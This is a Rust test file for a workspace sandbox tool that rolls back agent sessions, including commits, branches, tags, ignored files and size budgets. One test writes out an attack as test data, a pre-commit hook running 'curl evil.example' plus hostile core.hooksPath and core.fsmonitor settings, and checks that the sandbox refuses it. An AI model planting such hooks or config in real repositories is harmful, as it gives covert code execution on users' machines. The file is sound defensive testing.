//! Git-awareness: ignore rules and the budget, and git state that rolls back.

use crate::harness::*;

#[test]
fn commits_made_in_a_session_leave_the_branch_but_stay_in_the_reflog() {
    let env = Env::new();
    let ws = env.dir("repo");
    git_repo(&ws);
    write(ws.join("src.txt"), "v1\n");
    commit_all(&ws, "base");
    let base = git(&ws, &["rev-parse", "HEAD"]);
    let before = capture(&ws, &skip_git_internals);

    env.session(
        &ws,
        "echo v2 > src.txt && git -c user.name=a -c user.email=a@b commit -qam agent && \
         git -c user.name=a -c user.email=a@b checkout -qb agent-branch && git tag agent-tag",
    )
    .ok();
    let agent = git(&ws, &["rev-parse", "HEAD"]);
    assert_ne!(agent, base);

    env.ws(&ws, &["rollback"]).ok();
    assert_eq!(git(&ws, &["rev-parse", "HEAD"]), base);
    assert_eq!(git(&ws, &["symbolic-ref", "HEAD"]).trim(), "refs/heads/main");
    assert!(git(&ws, &["branch", "--list"]).trim() == "* main");
    assert!(git(&ws, &["tag", "--list"]).trim().is_empty());
    assert_eq!(git(&ws, &["status", "--porcelain"]), "");
    // The agent's commit is still reachable through the reflog.
    let reflog = git(&ws, &["reflog", "--format=%H"]);
    assert!(reflog.contains(agent.trim()), "reflog lost the agent's commit:\n{reflog}");
    assert_eq!(git(&ws, &["cat-file", "-t", agent.trim()]).trim(), "commit");
    assert_same_tree(&before, &capture(&ws, &skip_git_internals));
}

/// With namespaces (root here), `.git/hooks` and `.git/config` are read-only
/// in a session: the plant fails and nothing of git's state changes. Without
/// them, rollback removes a planted hook (see `privilege`).
#[test]
fn planted_hooks_and_config_are_refused() {
    let env = Env::new();
    let ws = env.dir("repo");
    git_repo(&ws);
    write(ws.join("f"), "f\n");
    commit_all(&ws, "base");
    let before = capture(&ws, &skip_git_internals);
    let out = env.session(
        &ws,
        "echo control > control.txt; \
         printf '#!/bin/sh\\ncurl evil.example\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; \
         git config core.hooksPath /tmp/evil; git config core.fsmonitor 'sh -c evil'; true",
    );
    assert!(ws.join("control.txt").exists(), "positive control: the session did not run: {out:?}");
    assert!(
        out.stderr.contains("Read-only file system") && out.stderr.contains("could not write config file"),
        "{}",
        out.stderr
    );
    let ns = env.ws(&ws, &["diff", "--name-status"]).ok();
    assert_eq!(ns.stdout, "A\tcontrol.txt\n");
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    assert!(!std::fs::read_to_string(ws.join(".git/config")).unwrap().contains("evil"));
    std::fs::remove_file(ws.join("control.txt")).unwrap();
    assert_same_tree(&before, &capture(&ws, &skip_git_internals));
}

#[test]
fn small_ignored_files_come_back_large_ignored_trees_are_listed() {
    let env = Env::new();
    let ws = env.dir("repo");
    git_repo(&ws);
    write(ws.join(".gitignore"), ".env\ntarget/\n*.log\n");
    write(ws.join(".env"), "API_KEY=precious\n");
    write(ws.join("debug.log"), "small log\n");
    for i in 0..2500 {
        write(ws.join(format!("target/debug/o{i}")), "object");
    }
    write(ws.join("main.rs"), "fn main() {}\n");
    commit_all(&ws, "base");

    let out = env.session(&ws, "rm .env debug.log && rm -rf target/debug/o1*").ok();
    assert!(out.stderr.contains("target/ (2,001+ files"), "{}", out.stderr);
    let stat = env.ws(&ws, &["diff", "--stat"]).ok();
    assert!(stat.stdout.contains("excluded: target/"), "{}", stat.stdout);
    let ns = env.ws(&ws, &["diff", "--name-status"]).ok();
    assert_eq!(ns.stdout, "D\t.env\nD\tdebug.log\n");
    env.ws(&ws, &["rollback"]).ok();
    assert_eq!(std::fs::read_to_string(ws.join(".env")).unwrap(), "API_KEY=precious\n");
    assert_eq!(std::fs::read_to_string(ws.join("debug.log")).unwrap(), "small log\n");
    let json = env.ws(&ws, &["session", "show", "--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(v["excluded"][0]["path"], "target");
    assert_eq!(v["excluded"][0]["reason"], "over_budget");
}

#[test]
fn nested_gitignore_negation_and_info_exclude_are_honoured() {
    let env = Env::new();
    let ws = env.dir("repo");
    git_repo(&ws);
    write(ws.join(".git/info/exclude"), "local-only/\n");
    write(ws.join("sub/.gitignore"), "*.bin\n!keep.bin\n");
    let big = vec![7u8; 9 << 20];
    write(ws.join("sub/huge.bin"), &big);
    write(ws.join("sub/keep.bin"), &big);
    for i in 0..2100 {
        write(ws.join(format!("local-only/f{i}")), "x");
    }
    env.session(&ws, "rm sub/huge.bin sub/keep.bin").ok();
    let json = env.ws(&ws, &["diff", "--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let excluded: Vec<&str> = v["excluded"].as_array().unwrap().iter().map(|e| e["path"].as_str().unwrap()).collect();
    assert_eq!(excluded, ["local-only", "sub/huge.bin"]);
    env.ws(&ws, &["rollback"]).ok();
    // keep.bin is not ignored (negated), so it is kept regardless of size.
    assert_eq!(std::fs::read(ws.join("sub/keep.bin")).unwrap().len(), 9 << 20);
    assert!(!ws.join("sub/huge.bin").exists(), "an excluded file cannot come back");
}

#[test]
fn the_users_global_excludes_file_is_honoured() {
    let env = Env::new();
    let ws = env.dir("repo");
    git_repo(&ws);
    let global = env.home.join("my-ignores");
    write(&global, "cache-dir/\n");
    write(env.home.join(".gitconfig"), format!("[core]\n\texcludesFile = {}\n", global.display()));
    for i in 0..2100 {
        write(ws.join(format!("cache-dir/c{i}")), "x");
    }
    write(ws.join("kept.txt"), "kept\n");
    env.session(&ws, "true").ok();
    let json = env.ws(&ws, &["session", "show", "--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(v["excluded"][0]["path"], "cache-dir", "{v}");
}

/// The end-of-session summary, `ws session show` and `--json` give the same
/// count for a session that commits: paths as `ws diff` lists them, and
/// git's internals (objects, logs, index) apart, in every view.
#[test]
fn every_view_of_a_committing_session_gives_one_count() {
    let env = Env::new();
    let ws = env.dir("proj");
    git_repo(&ws);
    write(ws.join("a.txt"), "a\n");
    commit_all(&ws, "init");
    let out = env
        .session(&ws, "echo x > a.txt; echo n > b.txt; git add -A; git -c user.name=t -c user.email=t@e commit -qm s")
        .ok();
    let json = env.ws(&ws, &["session", "show", "--json"]).ok();
    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
    let c = &v["changes"];
    let inside = c["inside_git"].as_u64().unwrap();
    assert!(inside > 0, "control: the commit wrote inside .git: {v}");
    // What `ws diff` lists is what is counted (the branch's ref and
    // COMMIT_EDITMSG are in it: reviewable, unlike objects and logs).
    let listed = env.ws(&ws, &["diff", "--name-status"]).ok().stdout;
    let n = |status: &str| listed.lines().filter(|l| l.starts_with(status)).count() as u64;
    assert!(listed.contains("M\ta.txt") && listed.contains("A\tb.txt"), "{listed}");
    let (created, modified, deleted) = (n("A\t"), n("M\t"), n("D\t"));
    assert_eq!(
        (c["created"].as_u64(), c["modified"].as_u64(), c["deleted"].as_u64()),
        (Some(created), Some(modified), Some(deleted)),
        "{v}\n{listed}"
    );
    let counted = format!("{created} created, {modified} modified, {deleted} deleted (and {inside} inside .git)");
    assert!(out.stderr.contains(&counted), "the summary: {}", out.stderr);
    let show = env.ws(&ws, &["session", "show"]).ok().stdout;
    assert!(show.contains(&counted), "ws session show: {show}");
}
